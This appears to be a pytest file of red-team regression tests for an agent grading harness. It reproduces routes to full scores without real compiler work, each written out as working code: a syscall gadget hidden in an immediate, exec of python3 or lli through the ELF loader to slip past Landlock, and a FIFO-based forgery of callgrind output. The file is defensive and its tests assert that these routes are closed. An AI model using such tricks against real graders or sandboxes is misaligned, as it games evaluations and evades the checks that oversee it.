"""Red team, goal "a score without the work": T3, T4 and T5 scores for stage programs that
compile, optimise and generate nothing, performed through the MCP tools only.

Each test asserts the SECURE outcome. The routes found:

- T3: the judged program (built from IR that declares nothing) makes raw system calls
  through a ``mov rax, r8; syscall; ret`` gadget hidden in a 64-bit immediate of its own
  code, and execs ``/lib64/ld-linux-x86-64.so.2 /usr/bin/python3 -c ...``: the run step's
  Landlock allowlist holds the ELF loader, and the loader maps any /usr program with
  ``mmap(PROT_EXEC)``, which Landlock does not govern. Any interpreter of SysY written in
  Python would score T3 this way, no IR generator at all.
- T4: the same gadget lets the measured program (under callgrind, in the measuring
  directory) replace ``callgrind.out`` with a FIFO and fork a child that swallows valgrind's
  real dump, then hands the shell's ``cp`` a forged file counting one instruction: the
  unchanged -O0 input scores 100 on every case.
- T5: the RV64 program writes the input IR to /tmp and makes an ``execve`` ecall of the
  x86-64 ELF loader on ``lli``; qemu-user passes it to the host, the loader is allowed, the
  development image holds LLVM, so lli runs the IR: no back end, full marks.
- T3 (and T4) interface check: it reads the IR as text, but a bitcode file named ``out.ll``
  is built all the same, so inline assembly goes through unseen and unrefused.

All of these routes are closed now (each test passes; they run in the battery,
tests/trust/test_attacks.py, and are rows of docs/attacks.md): the run step executes one
static program (the built T3/T4 program, callgrind's tool or the static qemu), with no
executable mapping after start for T3; measured T4 programs are solitary (no fork, mknod,
rename, chmod; the launcher opens every output); outputs must be textual IR, assembled by
llvm-as. Kept as regression guards: the direct execve of python3 from a T3 program
(Landlock), an execve from the measured T4 program (seccomp on valgrind's tool), and a
forged ``callgrind.out`` left read-only.

Scores seen before the fixes (sample of 6 hidden cases): T4 forged 100 on both backends;
T5 through lli 83.3 (bwrap, one case timed out) and 100 (docker) where no program gets 0;
T3 100 on the public case its script prints, 100 for the bitcode module the text form of
which is refused.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from golden import Split, Stage, build_golden, builtin_corpus
from tests.trust.attacks import BOTH
from tests.trust.conftest import Sessions
from tests.trust.session import Session
from tests.trust.test_attacks import _advance_to

# -- the gadget --------------------------------------------------------------------------------

# 4c 89 c0 / 0f 05 / c3 / 90 90: mov rax, r8; syscall; ret (and padding), little-endian. A
# volatile store of this constant puts the bytes in the module's own .text as a movabs
# immediate; calling them as `i64 (i64 a, i64 b, i64 c, i64, i64 nr)` is syscall nr(a, b, c).
_GADGET = 0x9090C3050FC0894C - (1 << 64)
_GADGET_IR = """@__rt_sink = internal global i64 0
@__rt_sys = internal global ptr null
define internal void @__rt_holder() noinline {
  store volatile i64 GADGET, ptr @__rt_sink
  ret void
}
define internal ptr @__rt_find() noinline {
entry:
  br label %loop
loop:
  %i = phi i64 [0, %entry], [%n, %next]
  %p = getelementptr i8, ptr @__rt_holder, i64 %i
  %b0 = load volatile i8, ptr %p
  %c0 = icmp eq i8 %b0, 76
  br i1 %c0, label %more, label %next
more:
  %p1 = getelementptr i8, ptr %p, i64 1
  %b1 = load volatile i8, ptr %p1
  %p5 = getelementptr i8, ptr %p, i64 5
  %b5 = load volatile i8, ptr %p5
  %c1 = icmp eq i8 %b1, -119
  %c5 = icmp eq i8 %b5, -61
  %c = and i1 %c1, %c5
  br i1 %c, label %found, label %next
next:
  %n = add i64 %i, 1
  br label %loop
found:
  ret ptr %p
}
define internal i64 @__rt_call(i64 %nr, i64 %a, i64 %b, i64 %c) noinline {
  %f = load ptr, ptr @__rt_sys
  %r = call i64 %f(i64 %a, i64 %b, i64 %c, i64 0, i64 %nr)
  ret i64 %r
}
""".replace("GADGET", str(_GADGET))


def _ir_string(name: str, data: bytes) -> str:
    body = "".join(chr(b) if 32 <= b < 127 and b not in b'"\\' else f"\\{b:02X}" for b in data)
    return f'@{name} = internal constant [{len(data) + 1} x i8] c"{body}\\00"\n'


def _writer(text: str) -> str:
    """A stage program that writes ``text`` as its output, whatever its input."""
    return f"#!/bin/sh\ncat > \"$2\" <<'RAMP_EOF'\n{text}RAMP_EOF\n"


def _program(s: Session, stage: str, source: str) -> None:
    s.ok("write_file", {"path": f"bin/{stage}", "content": source})
    s.sh(f"chmod +x bin/{stage}")


def _case(*, stdin: bool, kind: str | None = None) -> tuple[str, bytes, int]:
    """A public case (with or without stdin, of a kind): name, expected stdout, exit."""
    for case in sorted(builtin_corpus(), key=lambda c: c.name):
        if case.split is not Split.PUBLIC or (case.stdin is not None) != stdin:
            continue
        if kind is not None and not case.name.startswith(kind):
            continue
        golden = build_golden([case]).cases[0]
        if golden.expected_stdout.stat().st_size > 0:
            return case.name, golden.expected_stdout.read_bytes(), golden.expected_exit
    raise AssertionError(f"no public case with stdin={stdin} kind={kind}")


def _try(s: Session, stage: str, case: str) -> dict[str, Any]:
    return s.ok("run_stage", {"stage": stage, "case": case})


# -- T3: a judged program that becomes python3 through the ELF loader ------------------------


def _exec_ir(program: bytes, argv: list[bytes], status_on_failure: int = 77) -> str:
    """IR whose main execve's ``program`` with ``argv`` through the gadget (declares nothing).

    If the execve fails, main returns ``status_on_failure`` (so the case scores 0)."""
    strings = "".join(_ir_string(f"__a{i}", a) for i, a in enumerate(argv))
    pointers = ", ".join(f"ptr @__a{i}" for i in range(len(argv)))
    return (
        _ir_string("__prog", program)
        + strings
        + f"@__argv = internal global [{len(argv) + 1} x ptr] [{pointers}, ptr null]\n"
        + "@__envp = internal global [1 x ptr] [ptr null]\n"
        + _GADGET_IR
        + f"""define i32 @main() {{
  %g = call ptr @__rt_find()
  store ptr %g, ptr @__rt_sys
  %a = ptrtoint ptr @__prog to i64
  %v = ptrtoint ptr @__argv to i64
  %e = ptrtoint ptr @__envp to i64
  %r = call i64 @__rt_call(i64 59, i64 %a, i64 %v, i64 %e)
  ret i32 {status_on_failure}
}}
"""
    )


def _python_printing(expected: bytes, status: int) -> bytes:
    return f"import sys\nsys.stdout.write({expected.decode()!r})\nsys.exit({status})\n".encode()


_LOADER = b"/lib64/ld-linux-x86-64.so.2"
_PYTHON = b"/usr/bin/python3"


def _check_free_t3(s: Session, name: str, expected: bytes, status: int) -> None:
    """Where nothing is restricted (the development sandbox) the IR does what it says."""
    free = s.sh(
        "bin/t3 x /tmp/t3.ll && clang-19 -c /tmp/t3.ll -o /tmp/t3.o 2>/dev/null && "
        "clang-19 -O2 -c /ramp/include/sylib.c -o /tmp/sylib.o && "
        'clang-19 /tmp/t3.o /tmp/sylib.o -o /tmp/t3 && /tmp/t3; echo "status=$?"'
    )
    assert free["stdout"] == expected.decode() + f"status={status}\n", free


@pytest.mark.parametrize("backend", BOTH)
def test_t3_python_through_the_loader(sessions: Sessions, backend: str) -> None:
    """A T3 'compiler' whose output only execs python3 through ld.so: must score 0."""
    s = sessions.get(f"score-{backend}", backend)
    _advance_to(s, Stage.T3)
    name, expected, status = _case(stdin=False)
    argv = [_LOADER, _PYTHON, b"-c", _python_printing(expected, status)]
    _program(s, "t3", _writer(_exec_ir(_LOADER, argv)))
    _check_free_t3(s, name, expected, status)
    judged = _try(s, "T3", name)
    # Today: 100, "stdout and exit code match" (python3 ran inside the judge's run step).
    assert judged["ok"] and judged["score"] == 0.0, judged


@pytest.mark.parametrize("backend", BOTH)
def test_t3_direct_exec_refused(sessions: Sessions, backend: str) -> None:
    """The same program naming python3 itself: Landlock refuses the execve (defence holds)."""
    s = sessions.get(f"score-{backend}", backend)
    _advance_to(s, Stage.T3)
    name, expected, status = _case(stdin=False)
    argv = [_PYTHON, b"-c", _python_printing(expected, status)]
    _program(s, "t3", _writer(_exec_ir(_PYTHON, argv)))
    _check_free_t3(s, name, expected, status)
    judged = _try(s, "T3", name)
    assert judged["ok"] and judged["score"] == 0.0, judged
    assert "exit code 77" in judged["diagnosis"] or "stdout differs" in judged["diagnosis"]


_ASM_IR = """@msg = private constant [{n} x i8] c"{text}"
define i32 @main() {{
  %r = call i64 asm sideeffect "syscall", "={{rax}},{{rax}},{{rdi}},{{rsi}},{{rdx}},~{{rcx}},~{{r11}},~{{memory}}"(i64 1, i64 1, ptr @msg, i64 {n})
  ret i32 {status}
}}
"""


@pytest.mark.parametrize("backend", BOTH)
def test_t3_bitcode_hides_inline_assembly(sessions: Sessions, backend: str) -> None:
    """The interface check reads the IR as text; a bitcode file named out.ll is built all
    the same (clang's IR reader sniffs the magic), so inline assembly passes unseen. Here
    it only writes the expected output with a raw write(2); it could do anything the
    gadget does. Must be refused like the same module in text."""
    s = sessions.get(f"score-{backend}", backend)
    _advance_to(s, Stage.T3)
    name, expected, status = _case(stdin=False)
    text = "".join(chr(b) if 32 <= b < 127 and b not in b'"\\' else f"\\{b:02X}" for b in expected)
    s.ok(
        "write_file",
        {"path": "asm.ll", "content": _ASM_IR.format(n=len(expected), text=text, status=status)},
    )
    s.sh("llvm-as-19 asm.ll -o asm.bc")
    _program(s, "t3", '#!/bin/sh\ncp asm.ll "$2"\n')
    as_text = _try(s, "T3", name)
    assert as_text["score"] == 0.0 and "uses assembly" in as_text["diagnosis"], as_text
    _program(s, "t3", '#!/bin/sh\ncp asm.bc "$2"\n')
    as_bitcode = _try(s, "T3", name)
    # Today: 100.0, "stdout and exit code match" (the assembly ran; nothing was refused).
    assert as_bitcode["score"] == 0.0 and "refused" in as_bitcode["diagnosis"], as_bitcode
    s.sh("rm -f asm.ll asm.bc")


# -- T4: a forged callgrind.out ----------------------------------------------------------------

# The forged dump: callgrind's header and one instruction, at main's address (in the
# agent's section), built at run time into @__rt_msg (65 bytes).
_MESSAGE_IR = """@__rt_path = internal constant [14 x i8] c"callgrind.out\\00"
@__rt_head = internal constant [46 x i8] c"version: 1\\0Apositions: instr\\0Aevents: Ir\\0Afn=x\\0A0x"
@__rt_buf = internal global [4096 x i8] zeroinitializer
@__rt_msg = internal global [80 x i8] zeroinitializer
define internal void @__rt_message() noinline {
entry:
  %g = call ptr @__rt_find()
  store ptr %g, ptr @__rt_sys
  br label %copy
copy:
  %j = phi i64 [0, %entry], [%j1, %copy]
  %src = getelementptr i8, ptr @__rt_head, i64 %j
  %byte = load i8, ptr %src
  %dst = getelementptr i8, ptr @__rt_msg, i64 %j
  store i8 %byte, ptr %dst
  %j1 = add i64 %j, 1
  %copied = icmp eq i64 %j1, 46
  br i1 %copied, label %hexstart, label %copy
hexstart:
  %addr = ptrtoint ptr @main to i64
  br label %hex
hex:
  %k = phi i64 [0, %hexstart], [%k1, %hex]
  %k4 = mul i64 %k, 4
  %shift = sub i64 60, %k4
  %nib = lshr i64 %addr, %shift
  %d = and i64 %nib, 15
  %isd = icmp ult i64 %d, 10
  %ch1 = add i64 %d, 48
  %ch2 = add i64 %d, 87
  %ch = select i1 %isd, i64 %ch1, i64 %ch2
  %c8 = trunc i64 %ch to i8
  %pos = add i64 %k, 46
  %q = getelementptr i8, ptr @__rt_msg, i64 %pos
  store i8 %c8, ptr %q
  %k1 = add i64 %k, 1
  %done = icmp eq i64 %k1, 16
  br i1 %done, label %tail, label %hex
tail:
  %t1 = getelementptr i8, ptr @__rt_msg, i64 62
  store i8 32, ptr %t1
  %t2 = getelementptr i8, ptr @__rt_msg, i64 63
  store i8 49, ptr %t2
  %t3 = getelementptr i8, ptr @__rt_msg, i64 64
  store i8 10, ptr %t3
  ret void
}
"""

# Turns the measuring directory's callgrind.out into a FIFO and forks a child that drains
# valgrind's real dump from it, then writes the forged one for the shell's cp, then sleeps
# until the sandbox ends it (a child that exited would dump its own counts on top).
_FORGE_IR = (
    _GADGET_IR
    + _MESSAGE_IR
    + """define internal void @__rt_forge() noinline {
entry:
  call void @__rt_message()
  %path = ptrtoint ptr @__rt_path to i64
  %u = call i64 @__rt_call(i64 87, i64 %path, i64 0, i64 0)
  %m = call i64 @__rt_call(i64 133, i64 %path, i64 4480, i64 0)
  %pid = call i64 @__rt_call(i64 57, i64 0, i64 0, i64 0)
  %child = icmp eq i64 %pid, 0
  br i1 %child, label %swallow, label %parent
parent:
  ret void
swallow:
  %fd = call i64 @__rt_call(i64 2, i64 %path, i64 0, i64 0)
  %buf = ptrtoint ptr @__rt_buf to i64
  br label %drain
drain:
  %got = call i64 @__rt_call(i64 0, i64 %fd, i64 %buf, i64 4096)
  %more = icmp sgt i64 %got, 0
  br i1 %more, label %drain, label %give
give:
  %cl = call i64 @__rt_call(i64 3, i64 %fd, i64 0, i64 0)
  %wfd = call i64 @__rt_call(i64 2, i64 %path, i64 1, i64 0)
  %msg = ptrtoint ptr @__rt_msg to i64
  %w = call i64 @__rt_call(i64 1, i64 %wfd, i64 %msg, i64 65)
  %cl2 = call i64 @__rt_call(i64 3, i64 %wfd, i64 0, i64 0)
  br label %sleep
sleep:
  %z = call i64 @__rt_call(i64 34, i64 0, i64 0, i64 0)
  br label %sleep
}
"""
)

# The simpler forgery: the forged file written first and left read-only (0444), so that
# callgrind cannot replace it.
_READ_ONLY_FORGE_IR = (
    _GADGET_IR
    + _MESSAGE_IR
    + """define internal void @__rt_forge() noinline {
  call void @__rt_message()
  %path = ptrtoint ptr @__rt_path to i64
  %u = call i64 @__rt_call(i64 87, i64 %path, i64 0, i64 0)
  %fd = call i64 @__rt_call(i64 2, i64 %path, i64 577, i64 292)
  %msg = ptrtoint ptr @__rt_msg to i64
  %w = call i64 @__rt_call(i64 1, i64 %fd, i64 %msg, i64 65)
  %cl = call i64 @__rt_call(i64 3, i64 %fd, i64 0, i64 0)
  ret void
}
"""
)

# bin/t4: the input IR unchanged, plus the forger, called first thing in main.
_T4_INJECT = """#!/usr/bin/env python3
import re, sys
EXTRA = json.loads(EXTRA_JSON)
out, done = [], False
for line in open(sys.argv[1], encoding="utf-8").read().splitlines():
    out.append(line)
    if not done and re.match(r"define .*@main\\(", line) and line.rstrip().endswith("{"):
        out.append("  call void CALL()")
        done = True
open(sys.argv[2], "w", encoding="utf-8").write("\\n".join(out) + "\\n" + EXTRA)
"""


def _t4_program(extra_ir: str, call: str) -> str:
    text = _T4_INJECT.replace("EXTRA_JSON", repr(json.dumps(extra_ir))).replace("CALL", call)
    return text.replace("import re, sys", "import json, re, sys")


_T4_IDENTITY = '#!/bin/sh\ncp "$1" "$2"\n'
# What the judge does, in the development sandbox (no exec policy): llc, the link, callgrind.
_MEASURE = """set -e
c=$1; w=$(mktemp -d); cd "$w"
clang-19 -O2 -DRAMP_MEASURE -c /ramp/include/sylib.c -o rt.o
cp /ramp/reference/T3/$c.ll in.ll
"$OLDPWD/bin/t4" in.ll out.ll
llc-19 -O2 -relocation-model=pic -filetype=obj out.ll -o out.o
llvm-objcopy-19 --keep-global-symbol=main --rename-section .text=.ramp.agent out.o own.o
clang-19 -static own.o rt.o -o measured
set +e
d=$(mktemp -d /tmp/ramp-measure-XXXXXXXXXXXX) && cp measured "$d/measured" && (cd "$d" && \
exec env -i /usr/bin/valgrind --tool=callgrind --collect-atstart=yes --combine-dumps=yes \
--dump-instr=yes --dump-line=no --compress-strings=no --compress-pos=no \
--callgrind-out-file=callgrind.out ./measured) < "$OLDPWD/cases/$c.in" > run.out 2> run.err
echo "status=$?"; cat run.out; cp "$d/callgrind.out" run.callgrind 2> /dev/null
echo "--callgrind--"; cat run.callgrind
"""


def _measure_free(s: Session, case: str) -> str:
    s.ok("write_file", {"path": "measure.sh", "content": _MEASURE})
    return str(s.sh(f"bash measure.sh {case}", timeout_s=120)["stdout"])


@pytest.mark.parametrize("backend", BOTH)
def test_t4_measured_program_execve_refused(sessions: Sessions, backend: str) -> None:
    """The measured program execs, through ld.so (via the gadget), a python3 that prints
    the expected output: the seccomp rule on valgrind's tool refuses the execve, and
    valgrind, which cannot recover from a failed execve, ends the run with nothing
    printed (defence holds). Let through, python3 would print the right output and the
    case would fail only on the missing count."""
    s = sessions.get(f"score-{backend}", backend)
    _advance_to(s, Stage.T4)
    name, expected, status = _case(stdin=True, kind="perf_")
    script = _python_printing(expected, status)
    ir = _exec_ir(_LOADER, [_LOADER, _PYTHON, b"-c", script])
    ir = ir.replace("define i32 @main()", "define internal i32 @__rt_exec()")
    ir += "define internal void @__rt_start() {\n  %x = call i32 @__rt_exec()\n  ret void\n}\n"
    _program(s, "t4", _t4_program(ir, "@__rt_start"))
    free = _measure_free(s, name)
    assert free.startswith(f"status={status}\n{expected.decode()}--callgrind--"), free
    judged = _try(s, "T4", name)
    assert judged["ok"] and judged["score"] == 0.0, judged
    assert judged["diagnosis"].startswith("stdout differs at byte 0"), judged


@pytest.mark.parametrize("backend", BOTH)
def test_t4_read_only_forgery_fails(sessions: Sessions, backend: str) -> None:
    """A forged callgrind.out made read-only. Free in run_command, callgrind cannot write
    its dump and exits 1. In the judge the launcher opens every output itself, so the
    program cannot even make the file: the real count stands (or the exit code fails the
    case). Either way the forgery does not pay."""
    s = sessions.get(f"score-{backend}", backend)
    _advance_to(s, Stage.T4)
    name, _, _ = _case(stdin=True, kind="perf_")
    _program(s, "t4", _t4_program(_READ_ONLY_FORGE_IR, "@__rt_forge"))
    free = _measure_free(s, name)
    assert "status=1" in free and "\nfn=x\n0x" in free, free  # forged, but valgrind failed
    judged = _try(s, "T4", name)
    assert judged["ok"] and judged["score"] == 0.0, judged
    diagnosis = judged["diagnosis"]
    assert "exit code 1" in diagnosis or "0.0% of the log speed-up" in diagnosis, judged


@pytest.mark.parametrize("backend", BOTH)
def test_t4_forged_callgrind_fifo(sessions: Sessions, backend: str) -> None:
    """The unchanged -O0 input plus the FIFO forger: must score no more than the unchanged
    input (or be refused as tampering)."""
    s = sessions.get(f"score-{backend}", backend)
    _advance_to(s, Stage.T4)
    name, _, status = _case(stdin=True, kind="perf_")
    _program(s, "t4", _T4_IDENTITY)
    unchanged = _try(s, "T4", name)
    # 82.2 under the paper formula (HEAD), 0 under the speed-up share (work in progress).
    assert unchanged["ok"] and unchanged["score"] < 100, unchanged
    _program(s, "t4", _t4_program(_FORGE_IR, "@__rt_forge"))
    free = _measure_free(s, name)
    assert f"status={status}" in free and "\nfn=x\n0x" in free, free  # the forged dump
    forged = _try(s, "T4", name)
    # Today: 100.0, "1 instructions" on both backends.
    assert forged["score"] <= unchanged["score"], (unchanged, forged)
    graded = s.ok("submit_stage", {"stage": "T4"})
    # Today: 100.0, "2 hidden cases: 2 full marks", no integrity finding.
    assert graded["integrity_findings"] or graded["score"] < 100.0, graded


# -- T5: lli through the ELF loader, from an RV64 program under qemu ------------------------

_T5_LLI = r'''#!/usr/bin/env python3
"""No back end: the .s carries the IR; the RV64 program writes it to /tmp and execve's the
x86-64 ELF loader on lli (qemu-user hands execve to the host)."""
import re, sys
RUNTIME = """
@__rt_d = private constant [3 x i8] c"%d\00"
@__rt_dc = private constant [4 x i8] c"%d:\00"
@__rt_sd = private constant [4 x i8] c" %d\00"
declare i32 @scanf(ptr, ...)
declare i32 @printf(ptr, ...)
declare i32 @putchar(i32)
declare i32 @getchar()
define i32 @getint() {
  %p = alloca i32
  store i32 0, ptr %p
  %r = call i32 (ptr, ...) @scanf(ptr @__rt_d, ptr %p)
  %v = load i32, ptr %p
  ret i32 %v
}
define i32 @getch() {
  %c = call i32 @getchar()
  ret i32 %c
}
define i32 @getarray(ptr %a) {
entry:
  %n = call i32 @getint()
  br label %head
head:
  %i = phi i32 [0, %entry], [%j, %body]
  %more = icmp slt i32 %i, %n
  br i1 %more, label %body, label %done
body:
  %v = call i32 @getint()
  %q = getelementptr i32, ptr %a, i32 %i
  store i32 %v, ptr %q
  %j = add i32 %i, 1
  br label %head
done:
  ret i32 %n
}
define void @putint(i32 %a) {
  %r = call i32 (ptr, ...) @printf(ptr @__rt_d, i32 %a)
  ret void
}
define void @putch(i32 %a) {
  %r = call i32 @putchar(i32 %a)
  ret void
}
define void @putarray(i32 %n, ptr %a) {
entry:
  %r = call i32 (ptr, ...) @printf(ptr @__rt_dc, i32 %n)
  br label %head
head:
  %i = phi i32 [0, %entry], [%j, %body]
  %more = icmp slt i32 %i, %n
  br i1 %more, label %body, label %done
body:
  %q = getelementptr i32, ptr %a, i32 %i
  %v = load i32, ptr %q
  %r2 = call i32 (ptr, ...) @printf(ptr @__rt_sd, i32 %v)
  %j = add i32 %i, 1
  br label %head
done:
  %r3 = call i32 @putchar(i32 10)
  ret void
}
define void @_sysy_starttime(i32 %l) {
  ret void
}
define void @_sysy_stoptime(i32 %l) {
  ret void
}
"""
NAMES = "getint|getch|getarray|putint|putch|putarray|_sysy_starttime|_sysy_stoptime"
ir = open(sys.argv[1], encoding="utf-8").read()
keep = [l for l in ir.splitlines()
        if l.strip() != "call void @__rt_forge()"
        and not re.match(r"\s*declare\b[^@]*@(%s)\(" % NAMES, l)
        and not l.startswith(("target datalayout", "target triple"))]
data = ("\n".join(keep) + "\n" + RUNTIME).encode()
body = "\n".join("  .byte " + ",".join(str(b) for b in data[i:i + 64]) for i in range(0, len(data), 64))
open(sys.argv[2], "w", encoding="utf-8").write(f"""  .section .rodata
ldso: .asciz "/lib64/ld-linux-x86-64.so.2"
lli: .asciz "/usr/lib/llvm-19/bin/lli"
path: .asciz "/tmp/ramp-lli.ll"
ir:
{body}
  .data
  .align 3
argv: .dword ldso, lli, path, 0
envp: .dword 0
  .text
  .globl main
main:
  li a0, -100
  la a1, path
  li a2, 0x241
  li a3, 0644
  li a7, 56
  ecall
  mv s0, a0
  la s1, ir
  li s2, {len(data)}
1:
  beqz s2, 2f
  mv a0, s0
  mv a1, s1
  mv a2, s2
  li a7, 64
  ecall
  blez a0, 2f
  add s1, s1, a0
  sub s2, s2, a0
  j 1b
2:
  mv a0, s0
  li a7, 57
  ecall
  la a0, ldso
  la a1, argv
  la a2, envp
  li a7, 221
  ecall
  li a0, 121
  ret
""")
'''


@pytest.mark.parametrize("backend", BOTH)
def test_t5_lli_through_the_loader(sessions: Sessions, backend: str) -> None:
    """A T5 'back end' that only wraps the IR for lli: must score 0."""
    s = sessions.get(f"score-{backend}", backend)
    _advance_to(s, Stage.T5)
    name, expected, status = _case(stdin=True, kind="algo_")
    _program(s, "t5", _T5_LLI)
    free = s.sh(
        f"bin/t5 /ramp/reference/T4/{name}.ll /tmp/t5.s && "
        "riscv64-linux-gnu-gcc -static /tmp/t5.s -o /tmp/t5 && "
        f'qemu-riscv64 /tmp/t5 < cases/{name}.in; echo "status=$?"',
        timeout_s=120,
    )
    assert free["stdout"] == expected.decode() + f"status={status}\n", free
    judged = _try(s, "T5", name)
    # Today: 100.0, "stdout and exit code match" on both backends.
    assert judged["ok"] and judged["score"] == 0.0, judged
    graded = s.ok("submit_stage", {"stage": "T5"})
    # Today: 83.3 (bwrap, one case timed out) and 100.0 (docker), passed, no finding.
    assert not graded["passed"] and graded["score"] == 0.0, graded
